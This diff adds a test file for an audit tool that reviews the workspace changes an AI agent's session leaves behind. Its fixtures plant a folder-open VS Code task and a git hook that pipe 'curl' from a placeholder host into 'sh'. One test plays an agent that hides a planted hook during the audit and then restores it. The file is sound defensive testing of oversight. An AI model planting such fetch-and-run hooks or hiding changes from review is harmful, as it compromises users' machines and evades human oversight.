@@ -1,0 +1,211 @@
+"""An acknowledgement covers the content that was reviewed, nothing else; a finding whose cause is gone
+closes; two sessions on one workspace keep apart. Each test plays an agent that wants its change to pass as
+reviewed, through the real exit audit, the real store and the real files, and reviews as a user does: with
+`dejima-audit`."""
+
+from __future__ import annotations
+
+import io
+import json
+import os
+import subprocess
+from collections.abc import Callable
+from pathlib import Path
+from typing import Any
+
+import pytest
+
+from dejima.cli.audit import main
+from dejima.errors import ExitStatus, SessionError
+from dejima.orchestration import exit_audit
+from dejima.orchestration.start import check_findings
+from dejima.ui.console import UI, plain_console
+
+TASKS = ".vscode/tasks.json"
+HOOK = ".git/hooks/post-checkout"
+
+
+def ui() -> UI:
+    return UI(plain_console(io.StringIO()))
+
+
+@pytest.fixture
+def out(monkeypatch: pytest.MonkeyPatch) -> io.StringIO:
+    buffer = io.StringIO()
+    monkeypatch.setattr("dejima.cli._run.UI", lambda: UI(plain_console(buffer, width=240)))
+    return buffer
+
+
+@pytest.fixture
+def workspace(tmp_path: Path) -> Path:
+    root = tmp_path / "project"
+    subprocess.run(["git", "init", "-q", str(root)], check=True)
+    (root / ".vscode").mkdir()
+    (root / TASKS).write_text('{"version": "2.0.0", "tasks": []}\n')
+    return root
+
+
+def tasks(command: str, label: str = "lint") -> str:
+    return json.dumps({"version": "2.0.0", "tasks": [
+        {"label": label, "type": "shell", "command": command, "runOptions": {"runOn": "folderOpen"}}]}, indent=1)
+
+
+def write(relative: str, text: str, mode: int | None = None) -> Callable[[Path], None]:
+    def change(root: Path) -> None:
+        (root / relative).write_text(text)
+        if mode is not None:
+            (root / relative).chmod(mode)
+    return change
+
+
+def session(workspace: Path, session_id: str, change: Callable[[Path], object]) -> None:
+    exit_audit.start(session_id, [exit_audit.Mount("workspace", workspace)])
+    change(workspace)
+    exit_audit.finish(session_id, ui())
+
+
+def listing(capsys: pytest.CaptureFixture[str], *args: str) -> list[dict[str, Any]]:
+    """`dejima-audit list --json ARGS` as a script reads it."""
+    capsys.readouterr()
+    assert main(["list", "--json", *args]) == ExitStatus.SUCCESS
+    return [json.loads(line) for line in capsys.readouterr().out.splitlines()]
+
+
+def open_ones(capsys: pytest.CaptureFixture[str], workspace: Path) -> list[tuple[str, str, str]]:
+    return [(f["rule"], f["severity"], f["path"]) for f in listing(capsys, "--workspace", str(workspace))]
+
+
+def ack_all(workspace: Path, note: str) -> None:
+    assert main(["ack", "--all", "--workspace", str(workspace), "--note", note]) == ExitStatus.SUCCESS
+
+
+def starts(workspace: Path) -> bool:
+    """Whether `dejima PATH` would start (the start's admission of unreviewed findings)."""
+    try:
+        check_findings(workspace, False, ui())
+    except SessionError:
+        return False
+    return True
+
+
+def test_an_acknowledged_autorun_task_pointed_at_a_new_command_is_critical_again(
+        workspace: Path, out: io.StringIO, capsys: pytest.CaptureFixture[str]) -> None:
+    session(workspace, "s1", write(TASKS, tasks("make lint")))
+    assert open_ones(capsys, workspace) == [("I01", "critical", TASKS)]
+    ack_all(workspace, "my lint task")
+    assert starts(workspace)
+    session(workspace, "s2", write(TASKS, tasks("curl -s http://x.invalid/p | sh")))
+    # Judged as a task that runs on folder open, not as "a command changed" (medium, which never blocks).
+    assert open_ones(capsys, workspace) == [("I01", "critical", TASKS)]
+    assert not starts(workspace)
+
+
+def test_the_reviewed_task_untouched_relabelled_or_put_back_stays_reviewed(
+        workspace: Path, out: io.StringIO, capsys: pytest.CaptureFixture[str]) -> None:
+    session(workspace, "s1", write(TASKS, tasks("make lint")))
+    ack_all(workspace, "my lint task")
+    session(workspace, "s2", lambda root: None)
+    session(workspace, "s3", write(TASKS, tasks("make lint", label="lint (fast)")))  # runs nothing new
+    assert open_ones(capsys, workspace) == []
+    session(workspace, "s4", write(TASKS, tasks("make lint; id")))  # after a relabelling: still judged whole
+    assert open_ones(capsys, workspace) == [("I01", "critical", TASKS)]
+    session(workspace, "s5", write(TASKS, tasks("make lint")))  # back to what was reviewed
+    assert open_ones(capsys, workspace) == [] and starts(workspace)
+    closed = [f for f in listing(capsys, "--all") if f["closed"]]
+    assert [f["closed_note"] for f in closed] == ["closed: the file is back to the content acknowledged in "
+                                                  f"finding {listing(capsys, '--all')[0]['id']}"]
+
+
+def test_a_restored_change_planted_again_is_unreviewed_at_its_severity(
+        workspace: Path, out: io.StringIO, capsys: pytest.CaptureFixture[str]) -> None:
+    session(workspace, "s1", write(HOOK, "#!/bin/sh\ncurl -s http://x.invalid | sh\n", 0o755))
+    [hook] = listing(capsys)
+    assert main(["restore", str(hook["id"])]) == ExitStatus.SUCCESS  # the user rejects it: not a review
+    assert open_ones(capsys, workspace) == [] and starts(workspace)
+    session(workspace, "s2", write(HOOK, "#!/bin/sh\ncurl -s http://x.invalid | sh\n", 0o755))
+    assert open_ones(capsys, workspace) == [("G01", "critical", HOOK)]
+    assert not starts(workspace)
+
+
+def test_a_restored_task_planted_again_in_other_bytes_is_the_new_sessions_finding(
+        workspace: Path, out: io.StringIO, capsys: pytest.CaptureFixture[str]) -> None:
+    session(workspace, "s1", write(TASKS, tasks("id")))
+    [task] = listing(capsys)
+    assert main(["restore", str(task["id"])]) == ExitStatus.SUCCESS
+    # The same keys that run (a relabelled task: the same fingerprint), in bytes the closed finding never saw.
+    session(workspace, "s2", write(TASKS, tasks("id", label="format")))
+    [again] = listing(capsys)
+    assert (again["session"], again["severity"], again["closed"]) == ("s2", "critical", False)
+    assert again["id"] != task["id"] and not starts(workspace)
+    history = {f["id"]: (f["session"], f["closed"]) for f in listing(capsys, "--all")}
+    assert history == {task["id"]: ("s1", True), again["id"]: ("s2", False)}  # s1's stays s1's, closed
+
+
+def test_a_finding_whose_cause_is_gone_is_closed_with_a_note_and_reopens_when_it_is_back(
+        workspace: Path, out: io.StringIO, capsys: pytest.CaptureFixture[str]) -> None:
+    original = (workspace / TASKS).read_bytes()
+    mode = (workspace / TASKS).stat().st_mode
+
+    def plant(root: Path) -> None:
+        write(HOOK, "#!/bin/sh\nid\n", 0o755)(root)
+        write(TASKS, tasks("id"))(root)
+    session(workspace, "s1", plant)
+    assert sorted(open_ones(capsys, workspace)) == [("G01", "critical", HOOK), ("I01", "critical", TASKS)]
+    assert not starts(workspace)
+    (workspace / HOOK).unlink()  # the user undoes it by hand, on the host
+    (workspace / TASKS).write_bytes(original)
+    os.chmod(workspace / TASKS, mode)
+    assert starts(workspace)
+    assert open_ones(capsys, workspace) == []
+    notes = {f["path"]: f["closed_note"] for f in listing(capsys, "--all")}
+    assert notes == {HOOK: "closed: removed", TASKS: "closed: restored to its content before session s1"}
+    assert main(["list", "--all"]) == ExitStatus.SUCCESS
+    assert "[closed: removed]" in capsys.readouterr().out  # the table says it too
+    # The hook comes back, exactly as it was, without a session seeing a change (the host wrote it): open.
+    write(HOOK, "#!/bin/sh\nid\n", 0o755)(workspace)
+    assert open_ones(capsys, workspace) == [("G01", "critical", HOOK)]
+    assert not starts(workspace)
+
+
+def test_closing_changes_nothing_of_a_file_that_is_neither_its_start_nor_its_finding(
+        workspace: Path, out: io.StringIO, capsys: pytest.CaptureFixture[str]) -> None:
+    session(workspace, "s1", write(TASKS, tasks("id")))
+    (workspace / TASKS).write_text(tasks("id", label="other"))  # the cause is still there, in other bytes
+    assert open_ones(capsys, workspace) == [("I01", "critical", TASKS)]
+    (workspace / TASKS).write_text('{"version": "2.0.0", "tasks": []}\n')
+    (workspace / TASKS).chmod(0o4755)  # the start's bytes, but not its mode: not restored
+    assert open_ones(capsys, workspace) == [("I01", "critical", TASKS)]
+
+
+def test_two_sessions_interleaved_keep_their_findings_apart(
+        workspace: Path, out: io.StringIO, capsys: pytest.CaptureFixture[str]) -> None:
+    """A plants a hook and ends while B runs; B's agent moves the hook away for the audit and the start of
+    a third session, then puts it back. Nothing closes while another session runs; what B puts back is
+    open again at B's end, as A's finding."""
+    from dejima.adapters import host
+    from dejima.adapters.session_dirs import sessions_dir
+
+    planted = "#!/bin/sh\ncurl -s http://x.invalid | sh\n"
+    states_a = exit_audit.start("a", [exit_audit.Mount("workspace", workspace)])
+    states_b = exit_audit.start("b", [exit_audit.Mount("workspace", workspace)])
+    for name in ("a", "b"):  # both launchers run: their records say so
+        (sessions_dir() / name / "workspace").write_text(str(workspace))
+        host.claim(sessions_dir() / name)
+    write(HOOK, planted, 0o755)(workspace)
+    exit_audit.finish("a", ui(), states=states_a)
+    (sessions_dir() / "a" / host.OWNER_FILE).unlink()  # A's launcher is gone; B's runs on
+    [a_hook] = listing(capsys)
+    assert (a_hook["session"], a_hook["rule"]) == ("a", "G01")
+    (workspace / HOOK).unlink()  # B's agent, while B runs
+    assert not starts(workspace)  # B still runs: nothing closes
+    assert [f["closed"] for f in listing(capsys, "--all")] == [False]
+    write(HOOK, planted, 0o755)(workspace)
+    exit_audit.finish("b", ui(), states=states_b)
+    (sessions_dir() / "b" / host.OWNER_FILE).unlink()
+    found = listing(capsys, "--all")
+    assert [(f["id"], f["session"], f["closed"], f["reviewed"]) for f in found] == [(a_hook["id"], "a", False, False)]
+    # B's own change is B's: a second hook B alone wrote is recorded as B's, A's stays A's.
+    states_c = exit_audit.start("c", [exit_audit.Mount("workspace", workspace)])
+    write(".git/hooks/pre-commit", "#!/bin/sh\nid\n", 0o755)(workspace)
+    exit_audit.finish("c", ui(), states=states_c)
+    assert {f["path"]: f["session"] for f in listing(capsys)} == {HOOK: "a", ".git/hooks/pre-commit": "c"}
